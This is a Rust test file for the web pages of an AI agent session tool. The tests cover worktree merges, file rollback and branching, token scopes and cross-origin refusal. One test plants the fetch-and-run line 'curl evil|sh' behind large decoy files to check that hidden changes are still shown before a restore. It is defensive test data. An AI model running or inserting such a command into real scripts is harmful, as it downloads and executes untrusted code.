//! Worktrees, restored files and messages between sessions, on the page.

use super::part;
use super::transcript::{FORM, field, form};
use crate::support::files::{FilesHost, write};
use crate::support::*;

/// Sends a form as a browser without scripts does.
async fn sent(scene: &FilesHost, path: &str, body: &str) -> HttpResponse {
    request(&scene.app, Method::POST, path, &[FORM], body).await
}

#[tokio::test]
async fn x14_page_shows_and_merges_a_worktree() {
    let scene = FilesHost::new().await;
    let id = scene.run_to_end("worker", &[write("a.txt", "one\n<b>TWO\n"), write("--- x", "-- y\n")]).await;
    let page = get(&scene.app, &format!("/s/{id}")).await.body;
    let link = part(&page, &format!("<a href=\"/s/{id}/worktree\">Worktree</a>"), "</code>");
    assert!(link.contains("<span class=\"state good\">ready</span> <code>subtend/"), "{link}");
    let path = format!("/s/{id}/worktree");
    let page = get(&scene.app, &path).await.body;
    assert!(page.contains("<span class=\"same\"> one</span><span class=\"del\">-two</span>"), "{page}");
    assert!(page.contains("<span class=\"ins\">+&#60;b&#62;TWO</span>"), "{page}");
    assert!(page.contains("<p>2 files changed, +2 -1 lines: --- x +1 -0, a.txt +1 -1</p>"), "{page}");
    let tip = format!("tip={}", field(&page, "tip"));
    // Changes that were not shown are neither merged nor lost.
    scene.put_in(&id, "a.txt", "one\n<b>THREE\n");
    for what in ["merge", "keep", "discard"] {
        let late = sent(&scene, &format!("{path}/{what}"), &tip).await;
        assert_eq!(late.status, 409, "{what}: {}", late.body);
        assert!(late.body.contains("changed after its changes were shown"), "{}", late.body);
    }
    assert_eq!(scene.read("a.txt").as_deref(), Some("one\ntwo\n"));
    let tip = format!("tip={}", field(&get(&scene.app, &path).await.body, "tip"));
    let merged = sent(&scene, &format!("{path}/merge"), &tip).await;
    assert!(merged.body.contains("<strong>Merged 2 files.</strong>"), "{}", merged.body);
    assert!(merged.body.contains("<p>no changes</p>") && !merged.body.contains("/merge"), "{}", merged.body);
    assert_eq!(scene.read("a.txt").as_deref(), Some("one\n<b>THREE\n"));
    let gone = sent(&scene, &format!("{path}/discard"), &tip).await;
    assert!(gone.body.contains("are discarded.") && gone.body.contains("has no worktree of its own"), "{}", gone.body);
    assert_eq!(scene.branches(), "main");
    scene.end().await;
}

/// These views show file contents that transcripts do not contain, so a token with scope `read` is refused.
#[tokio::test]
async fn contents_of_files_need_the_scope_to_act() {
    let scene = FilesHost::new().await;
    let id = scene.run_to_end("worker", &[write("a.txt", "secret\n")]).await;
    let dir = tempfile::tempdir().expect("a directory");
    let tokens = TokenFile::at(dir.path().join("tokens.json"));
    let [read, act] = [TokenScope::Read, TokenScope::Act]
        .map(|scope| format!("Bearer {}", tokens.create(&scope.to_string(), scope).expect("a token")));
    let guard = Guard::new("127.0.0.1:7475".parse().expect("an address"), [], tokens);
    let app = guard.protect(scene.app.clone());
    let own = ("host", "127.0.0.1:7475");
    let link = format!("/login?code={}", guard.logins().link().expect("a code"));
    let login = request(&app, Method::GET, &link, &[own], "").await;
    let cookie = login.headers["set-cookie"].to_str().expect("text").split(';').next().expect("a pair").to_owned();
    for path in ["worktree", "restore?run=1"].map(|view| format!("/s/{id}/{view}")) {
        for (sender, status) in [
            (("authorization", &*read), 403),
            (("authorization", &*act), 200),
            // A browser sends no Origin when it opens a view.
            (("cookie", &*cookie), 200),
        ] {
            let shown = request(&app, Method::GET, &path, &[own, sender, ("sec-fetch-site", "none")], "").await;
            assert_eq!(shown.status, status, "{path}: {}", shown.body);
        }
    }
    let merge = format!("/s/{id}/worktree/merge");
    let other = request(&app, Method::POST, &merge, &[own, ("cookie", &cookie), FORM], "tip=0").await;
    assert_eq!(other.problem(), (403, "cross_origin".to_owned()));
    drop((app, guard));
    scene.end().await;
}

#[tokio::test]
async fn x14_page_does_not_change_a_worktree_in_use() {
    let scene = FilesHost::new().await;
    let task = json!({"task": {"subagent_type": "worker", "prompt": format!("{}\nhang", write("new.txt", "n\n"))}});
    let id = scene.open("general", &[task.to_string()]).await;
    let link = loop {
        let page = get(&scene.app, &format!("/s/{id}/branches")).await.body;
        if page.contains("/worktree\">Worktree</a>") {
            let link = part(&page, "</span> <a href=\"/s/", "/worktree").rsplit('"').next().expect("a link").to_owned();
            if get(&scene.app, &link).await.body.contains("+n") {
                break link;
            }
        }
        tokio::task::yield_now().await;
    };
    let page = get(&scene.app, &link).await.body;
    assert!(page.contains("<span class=\"state live\">in use</span>") && !page.contains("<form"), "{page}");
    // The parent works in the workspace.
    let parent = get(&scene.app, &format!("/s/{id}/worktree")).await.body;
    assert!(parent.contains("has no worktree of its own"), "{parent}");
    scene.end().await;
}

#[tokio::test]
async fn x15_page_restores_the_files_that_it_showed() {
    let scene = FilesHost::new().await;
    let steps = [write("a.txt", "one\nTWO\n"), write("new.txt", "<n>\n"), "fail".to_owned()];
    let id = scene.run_to_end("general", &steps).await;
    let page = get(&scene.app, &format!("/s/{id}")).await.body;
    let way = format!("/s/{id}/restore?run=1");
    assert!(page.contains(&format!("<a href=\"{way}\">Roll back…</a>")), "{page}");
    let shown = get(&scene.app, &way).await.body;
    assert!(shown.contains("<span class=\"del\">-TWO</span><span class=\"ins\">+two</span>"), "{shown}");
    assert!(shown.contains("<span class=\"del\">-&#60;n&#62;</span>"), "{shown}");
    assert!(shown.contains("2 files would be restored as below."), "{shown}");
    let button = part(&shown, "<button class=\"main\" name=\"files\"", "</button>");
    assert!(button.ends_with(">Roll back, and restore 2 files</button>"), "{button}");
    let files = format!("run=1&files={}", field(button, "files"));
    // Another program has changed a file: neither the conversation nor the files are restored, and the page says why.
    scene.put("new.txt", "mine\n");
    let late = sent(&scene, &format!("/s/{id}/rollback"), &files).await;
    assert_eq!(late.status, 409, "{}", late.body);
    assert_eq!(scene.read("a.txt").as_deref(), Some("one\nTWO\n"));
    let conflict = get(&scene.app, &way).await.body;
    assert!(conflict.contains("<code>new.txt</code> was changed later by another program"), "{conflict}");
    assert!(!conflict.contains("<button class=\"main\""), "{conflict}");
    scene.put("new.txt", "<n>\n");
    let done = sent(&scene, &format!("/s/{id}/rollback"), &files).await;
    assert_eq!(
        (done.status.as_u16(), done.headers["location"].to_str().expect("a place")),
        (303, &*format!("/s/{id}"))
    );
    assert_eq!((scene.read("a.txt").as_deref(), scene.read("new.txt")), (Some("one\ntwo\n"), None));
    let page = get(&scene.app, &format!("/s/{id}")).await.body;
    assert!(page.contains("· rolled back") && !page.contains("Roll back…"), "{page}");
    scene.end().await;
}

/// The lines of a file are separated by CR. The control: the same lines, separated by LF.
#[tokio::test]
async fn x15_page_shows_each_file_despite_lone_returns() {
    for end in ["\r", "\n"] {
        let scene = FilesHost::new().await;
        let lines =
            |last: &str| format!("{}{last}{end}END\n", (0..40).map(|n| format!("line {n}{end}")).collect::<String>());
        scene.put("README.txt", &lines("evil"));
        scene.put("main.py", &format!("a = 1{end}import os{end}b = 2\n"));
        let steps = [write("README.txt", &lines("good")), write("main.py", &format!("a = 1{end}b = 2\n"))];
        let id = scene.run_to_end("general", &[&steps[..], &["fail".to_owned()]].concat()).await;
        let shown = get(&scene.app, &format!("/s/{id}/restore?run=1")).await.body;
        let block = shown.split("<p class=\"small\"><code>main.py</code>").nth(1).expect("a block of the file");
        let added = block.split("<span class=\"ins\">").nth(1).expect("an added line");
        assert!(added.split("</span>").next().is_some_and(|added| added.contains("import os")), "{shown}");
        assert!(!shown.contains("class=\"same\"> a = 1&#60;U+000D&#62;"), "{shown}");
        scene.end().await;
    }
}

/// Large files come before a small one, and are not shown. The control: shorter ones are shown, and the button too.
#[tokio::test]
async fn x15_page_restores_no_file_that_it_hides() {
    for (length, is_shown) in [(1 << 20, false), (1 << 10, true)] {
        let scene = FilesHost::new().await;
        let decoys = ["f0", "f1", "f2", "f3"];
        decoys.iter().for_each(|name| scene.put(name, &"\u{1}".repeat(length)));
        scene.put("z.sh", "curl evil|sh\n");
        let mut steps: Vec<String> = decoys.iter().map(|name| write(name, "x")).collect();
        steps.extend([write("z.sh", "#!/bin/sh\n"), "fail".to_owned()]);
        let id = scene.run_to_end("general", &steps).await;
        let shown = get(&scene.app, &format!("/s/{id}/restore?run=1")).await.body;
        assert!(shown.contains("<span class=\"ins\">+curl evil|sh</span>"), "{}", shown.len());
        assert_eq!(shown.contains("<button class=\"main\" name=\"files\""), is_shown);
        let command =
            format!("<code>subtend rollback {} --run 1 --files</code> names what is not shown", &id[id.len() - 6..]);
        assert_eq!(!shown.contains("This page does not show all:"), is_shown);
        assert!(is_shown || shown.contains(&command), "{command}");
        let plan = get(&scene.app, &format!("/v1/sessions/{id}/restore?run=1")).await.json();
        let hidden = plan["files"].as_array().expect("files").iter().filter(|file| file["hidden"].is_string()).count();
        assert_eq!(hidden, if is_shown { 0 } else { decoys.len() });
        scene.end().await;
    }
}

#[tokio::test]
async fn x15_page_branches_with_the_files_of_a_message() {
    let scene = FilesHost::new().await;
    let id = scene.run_to_end("general", &[write("a.txt", "one\nTWO\n"), "done".to_owned()]).await;
    let page = get(&scene.app, &format!("/s/{id}")).await.body;
    let way = part(&page, &format!("/s/{id}/restore?at="), "\"").trim_end_matches('"').to_owned();
    let shown = get(&scene.app, &way).await.body;
    let button = part(&shown, "<button class=\"main\" name=\"files\"", "</button>");
    assert!(button.ends_with(">Branch, and restore 1 file</button>"), "{button}");
    let body = format!("at={}&files={}", field(&shown, "at"), field(button, "files"));
    // The control: without files, a branch at the same message is created.
    let words = sent(&scene, &format!("/s/{id}/branch"), &format!("at={}&files=", field(&shown, "at"))).await;
    assert_eq!((words.status.as_u16(), scene.read("a.txt").as_deref()), (303, Some("one\nTWO\n")));
    let done = sent(&scene, &format!("/s/{id}/branch"), &body).await;
    assert_eq!((done.status.as_u16(), scene.read("a.txt").as_deref()), (303, Some("one\ntwo\n")));
    let branch = get(&scene.app, done.headers["location"].to_str().expect("a place")).await.body;
    assert!(branch.contains(&format!("<a href=\"/s/{id}\">Back to")), "{branch}");
    let bad = form(&scene.app, &format!("/s/{id}/branch"), "at=1&files=x").await;
    assert_eq!(bad.status, 422, "{}", bad.body);
    scene.end().await;
}

#[tokio::test]
async fn x16_page_links_both_sides_of_a_message() {
    let scene = FilesHost::new().await;
    let tells = json!({"message": {"to": "parent", "text": "it is in <a.txt>"}});
    let task = json!({"task": {"subagent_type": "worker", "prompt": tells.to_string()}});
    let id = scene.run_to_end("general", &[task.to_string()]).await;
    let tree = get(&scene.app, &format!("/v1/trees/{id}")).await.json();
    let child = tree["tree"]["children"][0]["id"].as_str().expect("an id").to_owned();
    let [short, own] =
        [&tree["tree"]["children"][0]["short"], &tree["tree"]["short"]].map(|it| it.as_str().expect("a name"));
    let page = get(&scene.app, &format!("/s/{id}")).await.body;
    let text = page.find("<div class=\"text\">[message from ").expect("the message");
    let entry = &page[page[..text].rfind("<article").expect("an entry")..];
    let entry = part(entry, "<article", "</article>");
    assert!(entry.contains("\nit is in &#60;a.txt&#62;\n"), "{entry}");
    assert!(entry.contains(&format!("<a href=\"/s/{child}\">from {short}</a>")), "{entry}");
    assert!(entry.contains(&format!("<a href=\"/s/{id}\">to {own}</a>")), "{entry}");
    let page = get(&scene.app, &format!("/s/{child}")).await.body;
    let expected = format!("<p>From <a href=\"/s/{child}\">this session</a> to <a href=\"/s/{id}\">{own}</a></p>");
    assert!(page.contains(&expected), "{page}");
    // The child's task comes from the parent too, but is not shown as a message.
    assert!(!page.contains(&format!(">from {own}</a>")), "{page}");
    scene.end().await;
}
